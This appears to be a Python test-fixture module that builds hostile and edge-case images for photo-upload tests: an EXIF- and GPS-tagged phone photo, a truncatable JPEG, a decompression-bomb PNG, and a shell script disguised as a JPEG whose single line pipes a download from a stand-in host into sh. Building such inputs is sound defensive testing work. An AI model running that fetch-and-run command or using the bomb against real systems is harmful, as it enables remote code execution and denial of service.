"""Pictures made on the spot for the photo tests: a phone's photo with EXIF orientation and GPS, a
decompression bomb, a script dressed as a JPEG, a truncated JPEG."""

from __future__ import annotations

import io
import random

from PIL import Image

# A phone held upright stores the sensor's landscape pixels and says "rotate 90° clockwise" (6).
ROTATE_CLOCKWISE = 6


def phone_photo(width: int = 200, height: int = 100, *, orientation: int = ROTATE_CLOCKWISE, fmt: str = "JPEG") -> bytes:
    """Left half red, right half blue, with EXIF orientation, the camera's make and a GPS position."""
    image = Image.new("RGB", (width, height), (220, 0, 0))
    image.paste((0, 0, 220), (width // 2, 0, width, height))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (36.0, 37.0, 12.0), 3: "E", 4: (101.0, 46.0, 30.0)})  # Xining
    out = io.BytesIO()
    image.save(out, fmt, exif=exif.tobytes())
    return out.getvalue()


def noisy_jpeg(width: int = 800, height: int = 600) -> bytes:
    """A JPEG with real entropy, so cutting it leaves scan data missing (not just the end marker)."""
    rng = random.Random(7)
    image = Image.frombytes("RGB", (width, height), bytes(rng.getrandbits(8) for _ in range(width * height * 3)))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return out.getvalue()


def picture(width: int, height: int, fmt: str = "JPEG", mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), "white" if mode != "1" else 1).save(out, fmt)
    return out.getvalue()


def bomb(side: int = 10_000) -> bytes:
    """A PNG of a few kilobytes that decodes to side² pixels."""
    return picture(side, side, "PNG", mode="1")


SCRIPT_NAMED_JPG = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
